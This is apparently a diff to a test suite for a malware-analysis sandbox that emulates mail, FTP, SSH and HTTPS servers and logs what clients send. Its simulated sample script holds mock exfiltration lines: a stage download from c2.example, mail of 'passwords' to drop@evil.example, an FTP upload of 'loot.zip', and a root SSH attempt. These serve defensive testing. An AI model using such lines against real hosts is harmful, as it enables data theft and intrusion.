@@ -25,9 +25,32 @@ pytestmark = [pytest.mark.kernel, pytest.mark.any_backend]
 
 BIG = 5 * 1024 * 1024  # what the script sends
 
+# The default pair, and two listeners of a protocol's kind on fixed (bound) ports.
+LISTENERS = """
+[[listeners]]
+name = "tcp-echo"
+protocol = "tcp"
+port = 1337
+[[listeners]]
+name = "udp-echo"
+protocol = "udp"
+port = 1337
+[[listeners]]
+name = "mail"
+protocol = "tcp"
+port = 2526
+kind = "smtp"
+[[listeners]]
+name = "web"
+protocol = "tcp"
+port = 9443
+kind = "https"
+"""
+
 # $D is the work directory; every client's result lands there.
 SCRIPT = r"""
 cd "$D"
+date +%s.%N > started
 curl -sS --max-time 20 -o https.txt https://c2.example/next/stage.txt; echo $? > https.rc
 curl -sS --max-time 20 -o http.txt http://plain.example/hello.json; echo $? > http.rc
 curl -sS --max-time 20 --cacert other-ca.pem https://untrusted.example/; echo $? > untrusted.rc
@@ -38,16 +61,72 @@ curl -sS --max-time 60 -o /dev/null --data-binary @big.bin https://upload.exampl
 printf 'chunk-body' | curl -sS --max-time 20 -o /dev/null -H 'Transfer-Encoding: chunked' --data-binary @- \
     http://chunked.example/c; echo $? > chunked.rc
 python3 -c '
-import socket
-s = socket.create_connection(("198.51.100.7", 4444), timeout=10)
-s.sendall(bytes(range(256)))
-s.shutdown(socket.SHUT_WR)
-got = b""
-while chunk := s.recv(4096):
-    got += chunk
-open("echo.bin", "wb").write(got)
+import socket, ssl, time
+def echoed(address, data, name, silent=0.0):
+    s = socket.create_connection(address, timeout=10)
+    time.sleep(silent)
+    s.sendall(data)
+    s.shutdown(socket.SHUT_WR)
+    got = b""
+    while chunk := s.recv(4096):
+        got += chunk
+    open(name, "wb").write(got)
+echoed(("198.51.100.7", 4444), bytes(range(256)), "echo.bin")
+echoed(("198.51.100.8", 4445), b"late words", "silent.bin", silent=1.5)  # silent past [recognize] wait
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
+with socket.create_connection(("203.0.113.9", 8443), timeout=10) as raw:
+    with ctx.wrap_socket(raw) as tls:  # no server_hostname: no SNI
+        open("nosni.der", "wb").write(tls.getpeercert(binary_form=True))
+        open("nosni.port", "w").write(str(tls.getsockname()[1]))
 '
+python3 -c '
+import smtplib
+with smtplib.SMTP("mx.example", 25, timeout=15) as s:
+    s.login("bot", "hunter2")
+    s.sendmail("bot@victim.example", ["drop@evil.example"], MAIL)
+' 2> smtp.err; echo $? > smtp.rc
+python3 -c '
+import smtplib, ssl
+with smtplib.SMTP_SSL("smtps.example", 465, timeout=15, context=ssl.create_default_context()) as s:
+    s.sendmail("a@b.example", ["c@d.example"], b"Subject: over tls\r\n\r\nhi\r\n")
+' ; echo $? > smtps.rc
+python3 -c '
+import poplib
+p = poplib.POP3("pop.example", 110, timeout=15)
+p.user("popuser")
+p.pass_("pop pass")
+open("pop3.stat", "w").write(repr(p.stat()))
+p.quit()
+' ; echo $? > pop3.rc
+python3 -c '
+import imaplib
+m = imaplib.IMAP4("imap.example", 143, timeout=15)
+m.login("imapuser", "imap pass")
+open("imap.select", "w").write(repr(m.select("INBOX")))
+m.logout()
+' ; echo $? > imap.rc
+python3 -c '
+import ftplib, io
+f = ftplib.FTP("ftp.example", timeout=15)
+f.login("ftpuser", "ftp pass")
+f.storbinary("STOR loot.zip", io.BytesIO(b"PK stolen files" * 1000))
+open("ftp.list", "w").write(repr(f.nlst()))
+f.quit()
+' 2> ftp.err; echo $? > ftp.rc
+timeout 5 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@c2.example true \
+    </dev/null 2>ssh.err; echo $? > ssh.rc
+python3 -c '
+import smtplib
+with smtplib.SMTP("203.0.113.20", 2526, timeout=15) as s:
+    s.sendmail("fixed@b.example", ["c@d.example"], b"Subject: fixed port\r\n\r\nhi\r\n")
+' ; echo $? > fixed_smtp.rc
+curl -sS --max-time 20 -o fixed_https.txt https://fixed.example:9443/x.txt; echo $? > fixed_https.rc
+date +%s.%N > finished
 """
+MAIL = b"From: bot@victim.example\r\nTo: drop@evil.example\r\nSubject: loot\r\n\r\npasswords\r\n"
+SCRIPT = SCRIPT.replace("MAIL", 'b"' + MAIL.decode().replace("\r\n", "\\r\\n") + '"')  # inside sh's '...'
+
 
 
 @pytest.fixture(scope="module")
@@ -57,7 +136,8 @@ def run(tmp_path_factory):
     state, bodies, keylog, pcap = work / "state", work / "bodies", work / "keys.log", work / "capture.pcap"
     config = work / "sandbox.toml"
     config.write_text(f'[queue]\nbackend = "{lab.BACKEND}"\n[tls]\nstate_dir = "{state}"\nkeylog = "{keylog}"\n'
-                      f'[http]\nbodies_dir = "{bodies}"\n')
+                      f'[http]\nbodies_dir = "{bodies}"\n[server_first]\nmail_dir = "{work / "mail"}"\n'
+                      f'uploads_dir = "{work / "uploads"}"\n' + LISTENERS)
     (work / "other-ca.pem").write_bytes(certs.ensure_ca(work / "other").pem)  # a CA curl trusts instead
     env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work))
     env.pop("SUDO_UID", None)
@@ -95,7 +175,8 @@ def test_https_with_the_ca_trusted_gets_the_body_and_the_request_is_logged(run):
     assert req["method"] == "GET" and req["status"] == 200 and req["client"] == hello["client"]
     assert ["Host", "c2.example"] in req["headers"]
     # The conversation log names the same client, with the destination it asked for.
-    conv = [r for r in records if r.get("client") == req["client"] and "original_destination" in r]
+    assert req["original_destination"] == hello["original_destination"]
+    conv = [r for r in records if r.get("client") == req["client"] and "protocol" in r]
     assert conv and conv[0]["original_destination"].endswith(":443") and conv[0]["name"] == "c2.example"
 
 
@@ -183,3 +264,99 @@ def test_the_capture_and_the_key_log_decrypt_to_the_https_request(run):
                           "-e", "http.host", "-e", "http.request.uri"],
                          capture_output=True, text=True, timeout=120)
     assert "c2.example\t/next/stage.txt" in out.stdout, out.stdout + out.stderr
+
+
+def test_a_client_hello_without_sni_gets_a_leaf_for_the_address_it_asked_for(run):
+    work, records = run
+    leaf = x509.load_der_x509_certificate((work / "nosni.der").read_bytes())
+    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
+    assert [str(ip) for ip in names.get_values_for_type(x509.IPAddress)] == ["203.0.113.9"]
+    port = (work / "nosni.port").read_text()
+    hello = [r for r in records if r.get("event") == "tls" and r["client"].endswith(f":{port}")]
+    assert hello and "sni" not in hello[0] and hello[0]["original_destination"] == "203.0.113.9:8443", records
+
+
+def test_a_silent_client_on_a_port_without_a_server_first_protocol_gets_the_echo(run):
+    work, _ = run
+    assert (work / "silent.bin").read_bytes() == b"late words"
+
+
+def records_of(records, event: str) -> list[dict]:
+    return [r for r in records if r.get("event") == event]
+
+
+def test_smtplib_logs_in_and_its_mail_is_stored_and_logged(run):
+    work, records = run
+    assert rc(work, "smtp") == 0, (work / "smtp.err").read_text()
+    auth = records_of(records, "smtp_auth")
+    assert auth and auth[0]["user"] == "bot" and auth[0]["password"] == "hunter2", records
+    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "bot@victim.example"]
+    assert mail and mail[0]["rcpt_to"] == ["drop@evil.example"] and ["Subject", "loot"] in mail[0]["headers"]
+    assert mail[0]["original_destination"].endswith(":25") and mail[0]["v"] >= 1
+    assert mail[0]["name"] == "mx.example"  # the DNS name the address stood for, joined
+    stored = (work / "mail" / (mail[0]["sha256"] + ".eml")).read_bytes()
+    assert mail[0]["saved"] == str(work / "mail" / (mail[0]["sha256"] + ".eml"))
+    assert stored.replace(b"\r\n", b"\n") == MAIL.replace(b"\r\n", b"\n")
+
+
+def test_smtp_over_implicit_tls_on_465_is_smtp_inside(run):
+    work, records = run
+    assert rc(work, "smtps") == 0
+    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "a@b.example"]
+    assert mail and mail[0]["original_destination"].endswith(":465")
+    assert tls_record(records, "smtps.example")["result"] == "ok"
+
+
+def test_pop3_login_is_logged_and_the_mailbox_is_empty(run):
+    work, records = run
+    assert rc(work, "pop3") == 0 and (work / "pop3.stat").read_text() == "(0, 0)"
+    login = records_of(records, "pop3")
+    assert login and login[0]["user"] == "popuser" and login[0]["password"] == "pop pass"
+    assert login[0]["original_destination"].endswith(":110")
+
+
+def test_imap_login_is_logged_and_the_inbox_is_empty(run):
+    work, records = run
+    assert rc(work, "imap") == 0 and (work / "imap.select").read_text() == "('OK', [b'0'])"
+    login = records_of(records, "imap")
+    assert login and login[0]["user"] == "imapuser" and login[0]["password"] == "imap pass"
+
+
+def test_ssh_in_batch_mode_exits_within_5_s_with_the_banner_logged(run):
+    work, records = run
+    err = (work / "ssh.err").read_text()
+    assert rc(work, "ssh") == 255 and "Permission denied" in err, err  # not 124: timeout(1) did not kill it
+    assert "remote software version OpenSSH_9.2p1" in err
+    rec = records_of(records, "ssh")
+    assert rec and rec[0]["client_version"].startswith("SSH-2.0-OpenSSH") and rec[0]["logins"] == []
+    assert rec[0]["original_destination"].endswith(":22")
+
+
+def test_ftplib_logs_in_and_uploads_a_file_that_is_kept(run):
+    work, records = run
+    assert rc(work, "ftp") == 0, (work / "ftp.err").read_text()
+    assert (work / "ftp.list").read_text() == "[]"
+    login = records_of(records, "ftp")
+    assert login and login[0]["user"] == "ftpuser" and login[0]["password"] == "ftp pass"
+    assert login[0]["original_destination"].endswith(":21")
+    (up,) = records_of(records, "ftp_upload")
+    sent = b"PK stolen files" * 1000
+    assert up["name"] == "loot.zip" and up["size"] == len(sent) and up["sha256"] == hashlib.sha256(sent).hexdigest()
+    assert (work / "uploads" / up["sha256"]).read_bytes() == sent
+
+
+def test_every_client_of_the_sample_like_script_finished_within_30_s(run):
+    work, _ = run
+    took = float((work / "finished").read_text()) - float((work / "started").read_text())
+    assert took < 30, f"the clients took {took:.1f} s"
+
+
+def test_listeners_of_a_protocols_kind_speak_it_on_their_bound_port(run):
+    work, records = run
+    assert rc(work, "fixed_smtp") == 0
+    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "fixed@b.example"]
+    # A bound port: the worker never rewrote it, conntrack still knows the address asked for.
+    assert mail and mail[0]["listener"] == "mail" and mail[0]["original_destination"] == "203.0.113.20:2526"
+    assert rc(work, "fixed_https") == 0 and (work / "fixed_https.txt").read_bytes() == b"ok\n"
+    req = http_record(records, "https://fixed.example:9443/x.txt")
+    assert req["listener"] == "web" and req["original_destination"].endswith(":9443")
